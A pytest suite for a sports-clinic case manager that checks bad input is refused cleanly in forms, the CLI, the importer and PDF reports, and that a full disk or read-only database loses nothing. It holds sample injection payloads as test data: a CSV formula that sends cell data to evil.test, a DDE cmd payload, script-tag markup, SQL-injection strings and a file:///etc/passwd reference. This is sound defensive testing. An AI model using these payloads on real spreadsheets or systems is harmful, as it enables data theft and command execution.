"""Bad input gets a clear error and loses nothing (issue 8).

A corpus of hostile inputs driven through the athlete dialog and the entry forms of a case
workspace (pytest-qt), the command line, the importer and the PDF reports: markup and
control characters, 10,000-character names, NUL bytes, both Unicode forms of ``José``,
SQL-looking search text, CSV formula payloads, impossible numbers and dates, a full disk
and a read-only database. For each input: a plain message (no traceback, names the field
or the problem), nothing half-written (row counts, files), and accepted text stored and
shown or printed exactly as typed.

How the two hostile environments are simulated:

- **Full disk**: files (PDF reports, CSV exports) get a ``os.fdopen`` whose writes fail
  with ``OSError(ENOSPC)`` after a few bytes, i.e. mid-write; the database gets SQLite's
  own ``SQLITE_FULL`` by capping each connection's ``PRAGMA max_page_count`` at the file's
  current size, so the first write that needs a new page fails as on a full disk.
- **Read-only database**: when the tests do not run as root the SQLite file, its WAL files
  and its folder are made read-only with ``chmod``. Root ignores file modes, so there (and
  for an already opened database in the app, as after a remount) every new connection is
  opened with ``PRAGMA query_only = ON``, which makes SQLite refuse every write with
  "attempt to write a readonly database", as it does for a read-only file.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
import unicodedata
from datetime import UTC, date, datetime, timedelta

import pypdf
import pytest
from PySide6.QtCore import QDate
from sqlalchemy import event, func, select

from casemgr.cli import main
from casemgr.db.models import Athlete, AuditEvent, ImportBatch, Measure, TimelineEntry
from casemgr.services import athletes, cases, timeline
from casemgr.services.athletes import AthleteInput
from casemgr.services.timeline import TimelineFilter
from tests.conftest import TEST_PASSWORD
from ui.case.case_workspace import CaseWorkspace
from ui.case.timeline_model import COL_ENTRY
from ui.clinic.case_list_model import COL_ATHLETE
from ui.clinic.main_window import MainWindow
from ui.forms.athlete_dialogs import AthleteDialog
from ui.platform import tasks

JOSE_NFC = unicodedata.normalize("NFC", "José Ruiz")
JOSE_NFD = unicodedata.normalize("NFD", "José Ruiz")
MARKUP = "<b>Bold</b> & <i>Co</i> <img src='x' onerror='alert(1)'/> &amp; </para>"
FORMULAS = [
    '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
]
TRACEBACK_MARKS = ("Traceback", 'File "', "sqlalchemy", "[SQL:", "Error:")


@pytest.fixture(autouse=True)
def synchronous_tasks():
    tasks.set_synchronous(True)
    yield
    tasks.set_synchronous(False)


def assert_plain(message: str, *expected: str) -> None:
    """A message a clinician can read: no traceback or driver text, names the problem."""
    assert message.strip(), "no message at all"
    for mark in TRACEBACK_MARKS:
        assert mark not in message, f"{mark!r} in {message!r}"
    for text in expected:
        assert text.lower() in message.lower(), f"{text!r} not in {message!r}"


def counts(clinic) -> dict[str, int]:
    with clinic.session() as s:
        return {
            model.__name__: s.scalar(select(func.count()).select_from(model))
            for model in (Athlete, TimelineEntry, Measure, ImportBatch)
        }


def entries(clinic, **filt):
    with clinic.session() as s:
        page = timeline.list_entries(
            s, clinic.actors["physio"], clinic.case_id, TimelineFilter(**filt), newest_first=True
        )
    return list(page.items)


def sqlite_file(clinic, db_url):
    if not db_url.startswith("sqlite"):
        pytest.skip("needs a SQLite file")
    return clinic.database.path


@pytest.fixture
def cli(clinic, monkeypatch, capsys):
    """Run ``casemgr --db CLINIC ...`` as *role*: (exit status, stdout, stderr)."""

    def run(*args, role="physio"):
        monkeypatch.setenv("CASEMGR_USER", role)
        monkeypatch.setenv("CASEMGR_PASSWORD", TEST_PASSWORD)
        try:
            code = main(["--db", clinic.database.url, *args])
        except SystemExit as exc:  # argparse refusing an argument
            code = exc.code
        out = capsys.readouterr()
        return code, out.out, out.err

    return run


# -- the athlete dialog ---------------------------------------------------------------------


@pytest.fixture
def athlete_dialog(qtbot, clinic):
    def _open(name: str = "Pat Doe", **fields) -> AthleteDialog:
        dialog = AthleteDialog(clinic.database, clinic.actors["physio"])
        qtbot.addWidget(dialog)
        dialog.show()
        dialog.name_edit.setText(name)  # pasted: keyClicks cannot type NUL or 10,000 chars
        for widget, text in fields.items():
            getattr(dialog, widget).setText(text)
        return dialog

    return _open


REFUSED_ATHLETES = [
    pytest.param({"name": "Sam\x07Bell"}, "Name contains control characters", id="bell"),
    pytest.param({"name": "Ann\x00Lee"}, "Name contains control characters", id="nul"),
    pytest.param({"name": "\x1b[31mRed\x1b[0m"}, "Name contains control characters", id="ansi"),
    pytest.param({"name": "Line\nbreak"}, "Name contains control characters", id="newline"),
    pytest.param({"name": "A" * 10_000}, "Name is too long (10000 characters", id="10k-name"),
    pytest.param({"name": " \t "}, "Name is required", id="blank-name"),
    pytest.param({"mass_edit": "NaN"}, "Body mass: 'NaN' is not a number", id="mass-nan"),
    pytest.param({"mass_edit": "inf"}, "Body mass: 'inf' is not a number", id="mass-inf"),
    pytest.param({"mass_edit": "1e308"}, "Body mass", id="mass-1e308"),
    pytest.param({"mass_edit": "-1"}, "Body mass -1", id="mass-negative"),
    pytest.param({"mass_edit": "12,5,3"}, "Body mass: '12,5,3' is not a number", id="mass-12,5,3"),
    pytest.param({"height_edit": "1_8"}, "Height: '1_8' is not a number", id="height-underscore"),
    pytest.param({"height_edit": "1,820"}, "Height: '1,820' is ambiguous", id="height-1,820"),
    pytest.param({"external_edit": "ATH\x000002"}, "External id contains control", id="ext-nul"),
    pytest.param({"external_edit": "X" * 10_000}, "External id is too long", id="ext-10k"),
]


@pytest.mark.parametrize(("fields", "message"), REFUSED_ATHLETES)
def test_athlete_dialog_refuses_with_a_plain_message_and_keeps_the_typing(
    athlete_dialog, clinic, fields, message
):
    fields = dict(fields)  # the parameters are shared by both backends' runs: never mutate them
    name = fields.pop("name", "Pat Doe")
    before = counts(clinic)
    dialog = athlete_dialog(name, **fields)
    assert dialog.submit() is False
    assert dialog.isVisible() and dialog.error_label.isVisible()
    assert_plain(dialog.error_label.text(), message)
    assert dialog.name_edit.text() == name  # what was typed is still there
    for widget, text in fields.items():
        assert getattr(dialog, widget).text() == text
    assert counts(clinic) == before


def test_athlete_dialog_dates_cannot_be_impossible(athlete_dialog, clinic):
    dialog = athlete_dialog("Pat Doe")
    dialog.dob_edit.setDate(QDate(1800, 1, 1))  # before the earliest date offered
    dialog.dob_edit.setDate(QDate(2024, 2, 30))  # no such day: Qt ignores it
    assert not QDate(2024, 2, 30).isValid()
    dialog.dob_edit.setDate(QDate.currentDate().addDays(400))  # clamped to today
    assert dialog.values().date_of_birth in (None, datetime.now(UTC).date())
    # below the widget, the service refuses what the widget cannot offer
    for dob in (date(1800, 1, 1), datetime.now(UTC).date() + timedelta(days=1)):
        with clinic.session() as s, pytest.raises(Exception) as refused:
            athletes.create_athlete(s, clinic.actors["physio"], AthleteInput("Pat", dob))
        assert_plain(str(refused.value), f"Date of birth {dob.isoformat()} is not possible")


ACCEPTED_NAMES = [
    pytest.param(MARKUP[:200], id="markup"),
    pytest.param(FORMULAS[0], id="hyperlink-formula"),
    pytest.param("@SUM(A1:A9) Jones", id="at-formula"),
    pytest.param("O'Brien; DROP TABLE athletes;--", id="sql"),
    pytest.param("李娜 \u202eevil\u202c 🏃", id="cjk-bidi-emoji"),
    pytest.param("N" * 200, id="200-chars"),
]


@pytest.mark.parametrize("name", ACCEPTED_NAMES)
def test_accepted_names_are_stored_and_shown_exactly_as_typed(qtbot, athlete_dialog, clinic, name):
    dialog = athlete_dialog(name)
    assert dialog.submit() is True, dialog.error_label.text()
    physio = clinic.actors["physio"]
    with clinic.session() as s:
        stored = s.scalar(select(Athlete.full_name).where(Athlete.id == dialog.athlete.id))
        found = athletes.list_athletes(s, physio, name)
        cases.open_case(
            s,
            physio,
            dialog.athlete.id,
            cases.CaseInput("calf", "left", "soleus", datetime.now(UTC).date()),
        )
    assert stored == name
    assert [a.full_name for a in found] == [name]
    window = MainWindow(clinic.database, physio)
    qtbot.addWidget(window)
    shown = [window.model.index(r, COL_ATHLETE).data() for r in range(window.model.rowCount())]
    assert sorted(shown) == sorted([name, "Sam Carter"])


def test_both_unicode_forms_of_jose_are_stored_once_and_found_by_either(
    qtbot, athlete_dialog, clinic
):
    assert JOSE_NFC != JOSE_NFD
    dialog = athlete_dialog(JOSE_NFD, external_edit="JOSÉ-1")
    assert dialog.submit() is True
    # the same external id typed in the other form is the same id: refused, not stored twice
    twin = athlete_dialog(JOSE_NFC, external_edit=unicodedata.normalize("NFD", "JOSÉ-1"))
    assert twin.submit() is False
    assert_plain(twin.error_label.text(), "already belongs to José Ruiz")
    with clinic.session() as s:
        stored = s.scalars(select(Athlete.full_name).where(Athlete.full_name != "Sam Carter"))
        assert list(stored) == [JOSE_NFC]
        physio = clinic.actors["physio"]
        for needle in (JOSE_NFC, JOSE_NFD, "jose", "JOSE\u0301"):
            assert [a.id for a in athletes.list_athletes(s, physio, needle)] == [dialog.athlete.id]
        case = cases.open_case(
            s,
            physio,
            dialog.athlete.id,
            cases.CaseInput("calf", "left", "soleus", datetime.now(UTC).date() - timedelta(days=3)),
        )
    window = MainWindow(clinic.database, clinic.actors["physio"])
    qtbot.addWidget(window)
    for needle in (JOSE_NFC, JOSE_NFD):
        window.search_edit.setText(needle)
        assert window.proxy.rowCount() == 1
        assert window.proxy.index(0, COL_ATHLETE).data() == JOSE_NFC
    assert case.id


# -- search text that looks like SQL -------------------------------------------------------


ATHLETE_SEARCHES = [  # (typed in the search box, the athletes it must find)
    ("%", ["100% Fit"]),
    ("_", ["A_B Jones"]),
    ("a_b", ["A_B Jones"]),
    ("\\", ["Back\\slash"]),
    ("%' OR '1'='1", []),
    ("[a-z]*", []),
]
TIMELINE_SEARCHES = [  # (typed in the timeline search, the notes it must find)
    ("50%", ["50% squat depth"]),
    ("t_l", ["left_leg"]),
    ("C:\\", ["C:\\temp"]),
    ("\\", ["C:\\temp"]),
    ("josé", [JOSE_NFC]),
    (JOSE_NFD, [JOSE_NFC]),
    ("%' OR '1'='1", []),
]


def test_athlete_search_treats_percent_and_underscore_literally(qtbot, clinic):
    physio = clinic.actors["physio"]
    with clinic.session() as s:
        for name in ("100% Fit", "1000 Fit", "A_B Jones", "AxB Jones", "Back\\slash", "Backslash"):
            a = athletes.create_athlete(s, physio, AthleteInput(name))
            cases.open_case(
                s, physio, a.id, cases.CaseInput("calf", "left", "soleus", datetime.now(UTC).date())
            )
    window = MainWindow(clinic.database, physio)
    qtbot.addWidget(window)
    for needle, expected in ATHLETE_SEARCHES:
        with clinic.session() as s:
            found = athletes.list_athletes(s, physio, needle)
        assert [a.full_name for a in found] == expected, needle
        window.search_edit.setText(needle)
        proxy = window.proxy
        assert [proxy.index(r, COL_ATHLETE).data() for r in range(proxy.rowCount())] == expected


def test_timeline_search_is_literal_and_unicode_form_blind(qtbot, clinic):
    physio = clinic.actors["physio"]
    with clinic.session() as s:
        for body in ("50% squat depth", "500 squat depth", "left_leg", "leftxleg", "C:\\temp"):
            timeline.add_note(s, physio, clinic.case_id, body)
        timeline.add_note(s, physio, clinic.case_id, JOSE_NFD)
    ws = CaseWorkspace(clinic.database, physio, clinic.case_id)
    qtbot.addWidget(ws)
    for needle, expected in TIMELINE_SEARCHES:
        assert [e.body for e in entries(clinic, text=needle, kinds=("note",))] == expected
        ws.timeline.search_edit.setText(needle)
        ws.timeline.reload()
        model = ws.timeline.model
        shown = [model.index(r, COL_ENTRY).data() for r in range(model.rowCount())]
        assert [text.split(" — ", 1)[-1] for text in shown] == expected, needle


# -- the entry forms ------------------------------------------------------------------------


@pytest.fixture
def workspace(qtbot, clinic):
    ws = CaseWorkspace(clinic.database, clinic.actors["physio"], clinic.case_id)
    qtbot.addWidget(ws)
    ws.show()
    qtbot.waitExposed(ws)
    return ws


REFUSED_NOTES = [
    pytest.param("", "Pain\x00free", "Note contains control characters", id="nul-body"),
    pytest.param("", "\x1b]0;pwned\x07", "Note contains control characters", id="escape-body"),
    pytest.param("", "\x0c\x0b", "Note contains control characters", id="formfeed-body"),
    pytest.param("T" * 10_000, "body", "Title is too long (10000 characters", id="10k-title"),
    pytest.param("Ti\x00tle", "body", "Title contains control characters", id="nul-title"),
    pytest.param("", " \n\t ", "The note is empty", id="blank"),
]


@pytest.mark.parametrize(("title", "body", "message"), REFUSED_NOTES)
def test_note_form_refuses_with_a_plain_message_and_keeps_the_typing(
    workspace, clinic, title, body, message
):
    before = counts(clinic)
    form = workspace.entry_panel.show_kind("note")
    form.title_edit.setText(title)
    form.body_edit.setPlainText(body)
    assert workspace.entry_panel.save() is False
    assert_plain(workspace.entry_panel.error_label.text(), message)
    assert form.title_edit.text() == title and form.body_edit.toPlainText() == body
    assert counts(clinic) == before


ACCEPTED_NOTES = [
    pytest.param(MARKUP, id="markup"),
    pytest.param("x" * 10_000, id="10k-body"),
    pytest.param("Tab\tand\nnew line ‘quotes’ — José", id="tab-newline"),
    pytest.param(FORMULAS, id="csv-formulas"),
]


@pytest.mark.parametrize("bodies", ACCEPTED_NOTES)
def test_accepted_notes_are_stored_and_shown_exactly_as_typed(workspace, clinic, bodies):
    for body in [bodies] if isinstance(bodies, str) else bodies:
        form = workspace.entry_panel.show_kind("note")
        form.title_edit.setText("<i>Title</i> & =1+1")
        form.body_edit.setPlainText(body)
        typed = form.body_edit.toPlainText()  # QPlainTextEdit keeps a bare CR as a line break
        assert workspace.entry_panel.save() is True, workspace.entry_panel.error_label.text()
        note = entries(clinic, kinds=("note",))[0]
        assert note.body == typed and note.title == "<i>Title</i> & =1+1"
        assert workspace.timeline.select_entry(note.id)
        detail = workspace.timeline.detail_text().replace("\n", " ")
        assert typed.replace("\n", " ")[:50] in detail


REFUSED_MEASURES = [
    ("nordic_force", "NaN", "Nordic force (left): 'NaN' is not a number"),
    ("nordic_force", "inf", "Nordic force (left): 'inf' is not a number"),
    ("nordic_force", "-inf", "is not a number"),
    ("nordic_force", "1e308", "outside the plausible range"),
    ("nordic_force", "1e309", "is not a number"),
    ("calf_raise_reps", "-1", "outside the plausible range"),
    ("nordic_force", "12,5,3", "'12,5,3' is not a number"),
    ("nordic_force", "1,250", "'1,250' is ambiguous"),
    ("nordic_force", "0x1F", "'0x1F' is not a number"),
    ("nordic_force", "=1+1", "'=1+1' is not a number"),
]


def test_impossible_numbers_are_refused_by_the_measure_form(workspace, clinic):
    before = counts(clinic)
    form = workspace.entry_panel.show_kind("measure")
    for key, text, message in REFUSED_MEASURES:
        form.rows[0].set_key(key)
        form.rows[0].left_edit.setText(text)
        form.rows[0].right_edit.setText("100")
        assert workspace.entry_panel.save() is False, text
        assert_plain(workspace.entry_panel.error_label.text(), message)
        assert form.rows[0].left_edit.text() == text
    assert counts(clinic) == before


def test_flag_and_target_text_with_control_characters_is_refused(workspace, clinic):
    before = counts(clinic)
    for kind, widget, label in (("flag", "text_edit", "Flag"), ("target", "text_edit", "")):
        form = workspace.entry_panel.show_kind(kind)
        edit = getattr(form, widget)
        (edit.setText if hasattr(edit, "setText") else edit.setPlainText)("Cramp\x00\x08")
        assert workspace.entry_panel.save() is False
        assert_plain(workspace.entry_panel.error_label.text(), label, "control characters")
    assert counts(clinic) == before


# -- CSV exports neutralise formulas --------------------------------------------------------


def test_csv_export_neutralises_formula_payloads_and_json_keeps_them(clinic, cli, tmp_path):
    physio = clinic.actors["physio"]
    with clinic.session() as s:
        a = athletes.create_athlete(
            s, physio, AthleteInput(FORMULAS[0], external_id="-1+2", sport="@SUM(A1)")
        )
        case = cases.open_case(
            s, physio, a.id, cases.CaseInput("calf", "left", "soleus", datetime.now(UTC).date())
        )
        for i, payload in enumerate(FORMULAS):
            timeline.add_note(s, physio, case.id, payload, title=payload.strip() or f"t{i}")
        timeline.raise_flag(s, physio, case.id, "+cmd|' /C calc'!A0")
    out = tmp_path / "x.csv"
    code, stdout, err = cli("export", str(case.id), "-o", str(out))
    assert code == 0, err
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for v in row.values() if v]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    numbers = [c for c in risky if c.lstrip("-").replace(".", "", 1).isdigit()]
    assert risky == numbers, f"formula cells left live: {risky}"
    texts = {row["text"] for row in rows if row["kind"] == "note"}
    assert texts == {"'" + f for f in FORMULAS}
    assert {row["athlete"] for row in rows} == {"'" + FORMULAS[0]}
    assert {row["external_id"] for row in rows} == {"'-1+2"}
    # the JSON export is data, not a spreadsheet: exactly as typed
    code, _out, err = cli("export", str(case.id), "-o", str(tmp_path / "x.json"))
    assert code == 0, err
    payload = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    assert json.dumps(payload, ensure_ascii=False).count(FORMULAS[0].replace('"', '\\"')) >= 1


# -- the command line -------------------------------------------------------------------------


CLI_REFUSALS = [
    pytest.param(
        ["sprint-profile", "--splits", "5:nan,10:1.95,20:3.2", "--mass", "75", "--height", "1.8"],
        "nan",
        id="sprint-nan",
    ),
    pytest.param(
        ["sprint-profile", "--splits", "5:1.2,10:1.95,20:3.2", "--mass", "inf", "--height", "1.8"],
        "mass",
        id="sprint-mass-inf",
    ),
    pytest.param(
        ["sprint-profile", "--splits", "5:1.2,10:1.95,20:3.2", "--mass", "-1", "--height", "1.8"],
        "mass",
        id="sprint-mass-negative",
    ),
    pytest.param(
        ["sprint-profile", "--splits", "12,5,3", "--mass", "75", "--height", "1.8"],
        "split",
        id="sprint-12,5,3",
    ),
    pytest.param(
        ["sprint-profile", "--splits", "5:1e308,10:1.95", "--mass", "75", "--height", "1.8"],
        "",
        id="sprint-1e308",
    ),
    pytest.param(["readiness", "99999999999999999999999"], "case", id="readiness-huge-id"),
    pytest.param(["readiness", "-1"], "case -1", id="readiness-negative-id"),
    pytest.param(
        ["export", "99999999999999999999999", "-o", "OUT/x.csv"], "case", id="export-huge-id"
    ),
    pytest.param(
        ["report", "1", "--kind", "weekly", "--week", "2024-02-30", "-o", "OUT/w.pdf"],
        "2024-02-30",
        id="report-week-feb-30",
    ),
    pytest.param(
        ["users", "add", "bad\x00name", "--role", "coach"], "user name", id="username-nul"
    ),
    pytest.param(
        ["users", "add", "nice", "--role", "coach", "--name", "N" * 10_000],
        "Display name is too long",
        id="display-name-10k",
    ),
]


@pytest.mark.parametrize(("argv", "message"), CLI_REFUSALS)
def test_cli_refuses_with_a_plain_message(clinic, cli, tmp_path, monkeypatch, argv, message):
    monkeypatch.setenv("CASEMGR_NEW_PASSWORD", "long enough password")
    (tmp_path / "OUT").mkdir()
    argv = [a.replace("OUT/", f"{tmp_path}/OUT/") for a in argv]
    before = counts(clinic)
    role = "admin" if argv[0] == "users" else "doctor"
    code, _out, err = cli(*argv, role=role)
    assert code in (1, 2)
    assert_plain(err, message)
    assert counts(clinic) == before
    assert list((tmp_path / "OUT").iterdir()) == []


# -- the importer -------------------------------------------------------------------------------


GENERIC_HEAD = "athlete_id,athlete,date,time,measure,limb,value,unit\n"
GOOD_ROW = "ATH-0001,Sam Carter,{day},08:00,nordic_force,left,300,N\n"

BAD_ROWS = [
    pytest.param("ATH-0001,Sam Carter,{day},08:00,nordic_force,left,NaN,N", "value is missing", id="nan"),
    pytest.param("ATH-0001,Sam Carter,{day},08:00,nordic_force,left,inf,N", "inf", id="inf"),
    pytest.param("ATH-0001,Sam Carter,{day},08:00,nordic_force,left,1e308,N", "'1e308' is not a number", id="1e308"),
    pytest.param("ATH-0001,Sam Carter,{day},08:00,calf_raise_reps,left,-1,reps", "-1", id="-1"),
    pytest.param('ATH-0001,Sam Carter,{day},08:00,nordic_force,left,"12,5,3",N', "12,5,3", id="12,5,3"),
    pytest.param("ATH-0001,Sam Carter,2024-02-30,08:00,nordic_force,left,300,N", "2024-02-30", id="feb-30"),
    pytest.param("ATH-0001,Sam Carter,1800-01-01,08:00,nordic_force,left,300,N", "1800", id="year-1800"),
    pytest.param("ATH-0001,Sam Carter,2099-01-01,08:00,nordic_force,left,300,N", "future", id="future"),
    pytest.param("ATH-0001,Sam Carter,{day},25:61,nordic_force,left,300,N", "25:61", id="time-25:61"),
    pytest.param("ATH-0099,<b>Eve</b> & Co,{day},08:00,nordic_force,left,300,N", "<b>Eve</b> & Co", id="markup-athlete"),
    pytest.param('ATH-0098,"=HYPERLINK(""x"")",{day},08:00,nordic_force,left,300,N', '=HYPERLINK("x")', id="formula-athlete"),
    pytest.param("ATH-0001,Sam Carter,{day},08:00,nordic_force,left,30\x000,N", "NUL characters", id="nul-value"),
    pytest.param("ATH-0001,Sam Carter,{day},08:00,drop table,left,300,N", "drop table", id="unknown-measure"),
]  # fmt: skip


@pytest.mark.parametrize(("row", "message"), BAD_ROWS)
def test_import_refuses_bad_rows_plainly_and_writes_nothing(clinic, cli, tmp_path, row, message):
    day = (datetime.now(UTC).date() - timedelta(days=2)).isoformat()
    path = tmp_path / "in.csv"
    path.write_text(GENERIC_HEAD + GOOD_ROW.format(day=day) + row.format(day=day) + "\n")
    before = counts(clinic)
    code, out, err = cli("import", str(path), "--preset", "generic", role="scientist")
    assert code == 1
    assert_plain(out + err, message)
    assert counts(clinic) == before
    if "\x00" in row:
        return  # not a text file at all: refused whole, nothing to skip
    assert "line 3: " in out and "Nothing was written" in err
    # the valid row alone can still be imported, on request
    code, out, err = cli(
        "import", str(path), "--preset", "generic", "--skip-invalid", role="scientist"
    )
    assert code == 0, err
    assert counts(clinic)["Measure"] == before["Measure"] + 1


def test_import_matches_the_athlete_typed_in_either_unicode_form(clinic, cli, tmp_path):
    with clinic.session() as s:
        a = athletes.create_athlete(s, clinic.actors["physio"], AthleteInput(JOSE_NFC))
    day = (datetime.now(UTC).date() - timedelta(days=2)).isoformat()
    path = tmp_path / "in.csv"
    path.write_text(
        GENERIC_HEAD
        + f",{JOSE_NFD},{day},08:00,nordic_force,left,300,N\n"
        + f",{JOSE_NFC},{day},08:00,nordic_force,right,310,N\n",
        encoding="utf-8",
    )
    code, out, err = cli("import", str(path), "--preset", "generic", role="scientist")
    assert code == 0, out + err
    with clinic.session() as s:
        owners = s.scalars(select(Measure.athlete_id).where(Measure.key == "nordic_force"))
        assert set(owners) == {a.id}


# -- the reports --------------------------------------------------------------------------------


def _pdf_text(path) -> str:
    reader = pypdf.PdfReader(io.BytesIO(path.read_bytes()))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_report_prints_markup_exactly_as_typed(clinic, cli, tmp_path):
    physio = clinic.actors["physio"]
    name = "<b>Zoë</b> & O'Brien <Jr>"
    imaging = "<img src='file:///etc/passwd'/> <font size=80>BIG</font> &amp; 5 < 6"
    with clinic.session() as s:
        a = athletes.create_athlete(s, physio, AthleteInput(name))
        case = cases.open_case(
            s,
            physio,
            a.id,
            cases.CaseInput(
                "calf",
                "left",
                "soleus",
                datetime.now(UTC).date(),
                imaging_note=imaging,
                history_note="y" * 9000,
            ),
        )
    out = tmp_path / "rtp.pdf"
    code, _out, err = cli("report", str(case.id), "--kind", "rtp", "-o", str(out), role="doctor")
    assert code == 0, err
    text = " ".join(_pdf_text(out).split())
    assert name in text
    assert "<img src='file:///etc/passwd'/>" in text and "&amp; 5 < 6" in text


# -- a full disk ----------------------------------------------------------------------------------


class _FullDisk:
    """A file object whose writes fail with ENOSPC once a few bytes are written."""

    def __init__(self, handle, room: int = 64) -> None:
        self._handle, self._room = handle, room

    def write(self, data):
        if len(data) > self._room:
            self._handle.write(data[: self._room])
            self._room = 0
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        self._room -= len(data)
        return self._handle.write(data)

    def __getattr__(self, name):
        return getattr(self._handle, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._handle.close()


@pytest.fixture
def full_disk(monkeypatch):
    real = os.fdopen

    def fdopen(*args, **kwargs):
        return _FullDisk(real(*args, **kwargs))

    monkeypatch.setattr(os, "fdopen", fdopen)


@pytest.mark.parametrize(
    ("argv", "name"),
    [
        pytest.param(["report", "{case}", "--kind", "rtp", "-o"], "rtp.pdf", id="report"),
        pytest.param(["export", "{case}", "--force", "-o"], "x.csv", id="export-csv"),
        pytest.param(["export", "{case}", "--force", "-o"], "x.json", id="export-json"),
    ],
)
def test_a_full_disk_leaves_no_partial_file_and_the_old_one_intact(
    clinic, cli, tmp_path, full_disk, argv, name
):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / name
    target.write_bytes(b"the previous file")
    exports_before = _report_exports(clinic)
    argv = [a.replace("{case}", str(clinic.case_id)) for a in argv]
    code, _out, err = cli(*argv, str(target), role="doctor")
    assert code == 1
    assert_plain(err, "No space left on device")
    assert [p.name for p in folder.iterdir()] == [name]
    assert target.read_bytes() == b"the previous file"
    if argv[0] == "report":
        assert _report_exports(clinic) == exports_before  # no "report.export" for no file


def _report_exports(clinic) -> int:
    with clinic.session() as s:
        return s.scalar(
            select(func.count()).where(AuditEvent.action == "report.export").select_from(AuditEvent)
        )


def _on_every_connection(engine, statement: str) -> None:
    def run(dbapi_conn, _record):
        if statement == "max_page_count":
            pages = dbapi_conn.execute("PRAGMA page_count").fetchone()[0]
            dbapi_conn.execute(f"PRAGMA max_page_count = {pages}")
        else:
            dbapi_conn.execute(statement)

    event.listen(engine, "connect", run)
    engine.dispose()  # connections made from now on get it


@pytest.fixture
def sqlite_db(clinic, db_url):
    return sqlite_file(clinic, db_url)


def test_a_full_database_disk_in_the_note_form_keeps_the_typing(workspace, clinic, sqlite_db):
    before = counts(clinic)
    _on_every_connection(clinic.database.engine, "max_page_count")
    form = workspace.entry_panel.show_kind("note")
    body = "Long note " * 3000  # needs new pages
    form.body_edit.setPlainText(body)
    assert workspace.entry_panel.save() is False
    assert_plain(workspace.entry_panel.error_label.text(), "full")
    assert form.body_edit.toPlainText() == body
    assert counts(clinic) == before


def test_a_full_database_disk_makes_an_import_write_nothing(
    clinic, cli, tmp_path, monkeypatch, sqlite_db
):
    import casemgr.db.open as db_open

    real = db_open.make_engine

    def full_engine(url):
        engine = real(url)
        _on_every_connection(engine, "max_page_count")
        return engine

    rows = "".join(
        GOOD_ROW.format(day=(datetime.now(UTC).date() - timedelta(days=d)).isoformat()).replace(
            "300", str(200 + d)
        )
        for d in range(1, 400)
    )
    path = tmp_path / "big.csv"
    path.write_text(GENERIC_HEAD + rows.replace("left", "right", 200))
    before = counts(clinic)
    with monkeypatch.context() as mp:
        mp.setattr(db_open, "make_engine", full_engine)
        code, _out, err = cli("import", str(path), "--preset", "generic", role="scientist")
    assert code == 1
    assert_plain(err, "full")
    assert counts(clinic) == before


# -- a read-only database -----------------------------------------------------------------------


def _make_read_only(clinic, path, mp) -> str:
    """Read-only by file mode, or (as root, who ignores modes) by ``query_only``."""
    clinic.database.dispose()
    if os.geteuid() != 0:
        files = [p for p in path.parent.iterdir() if p.name.startswith(path.name)]
        for p in [*files, path.parent]:
            p.chmod(p.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))
        return "chmod"
    import casemgr.db.open as db_open

    real = db_open.make_engine

    def read_only_engine(url):
        engine = real(url)
        _on_every_connection(engine, "PRAGMA query_only = ON")
        return engine

    mp.setattr(db_open, "make_engine", read_only_engine)
    return "query_only"


def _restore_write(path) -> None:
    for p in [path.parent, *path.parent.iterdir()]:
        if p.name.startswith(path.name) or p == path.parent:
            p.chmod(p.stat().st_mode | stat.S_IWUSR)


@pytest.mark.parametrize(
    "argv",
    [
        pytest.param(["export", "{case}", "-o", "{out}/x.csv"], id="export"),
        pytest.param(["report", "{case}", "-o", "{out}/r.pdf"], id="report"),
        pytest.param(["import", "{out}/in.csv", "--preset", "generic"], id="import"),
    ],
)
def test_a_read_only_database_is_refused_plainly_and_left_as_it_was(
    clinic, cli, tmp_path, monkeypatch, sqlite_db, argv
):
    day = (datetime.now(UTC).date() - timedelta(days=2)).isoformat()
    out = tmp_path / "out"  # outside the read-only folder: only the database is refused
    out.mkdir()
    (out / "in.csv").write_text(GENERIC_HEAD + GOOD_ROW.format(day=day))
    before = counts(clinic)
    argv = [a.replace("{case}", str(clinic.case_id)).replace("{out}", str(out)) for a in argv]
    with monkeypatch.context() as mp:
        how = _make_read_only(clinic, sqlite_db, mp)
        size = sqlite_db.stat().st_size
        try:
            code, _out, err = cli(*argv, role="doctor" if argv[0] != "import" else "scientist")
        finally:
            if how == "chmod":
                _restore_write(sqlite_db)
    assert code == 1
    assert_plain(err, "read")
    assert [p.name for p in out.iterdir()] == ["in.csv"]
    assert sqlite_db.stat().st_size == size
    assert counts(clinic) == before


def test_a_database_that_became_read_only_keeps_the_typing(workspace, clinic, sqlite_db):
    before = counts(clinic)
    _on_every_connection(clinic.database.engine, "PRAGMA query_only = ON")
    form = workspace.entry_panel.show_kind("note")
    form.body_edit.setPlainText("Walks pain-free")
    assert workspace.entry_panel.save() is False
    assert_plain(workspace.entry_panel.error_label.text(), "read")
    assert form.body_edit.toPlainText() == "Walks pain-free"
    clinic.database.engine.dispose()
    assert counts_after_read_only(clinic) == before


def counts_after_read_only(clinic) -> dict[str, int]:
    # counting needs a transaction, which a query_only connection still refuses to BEGIN
    # IMMEDIATE; read the file through a plain connection instead
    import sqlite3

    with sqlite3.connect(clinic.database.path) as conn:
        return {
            name: conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
            for name, table in (
                ("Athlete", Athlete.__tablename__),
                ("TimelineEntry", TimelineEntry.__tablename__),
                ("Measure", Measure.__tablename__),
                ("ImportBatch", ImportBatch.__tablename__),
            )
        }
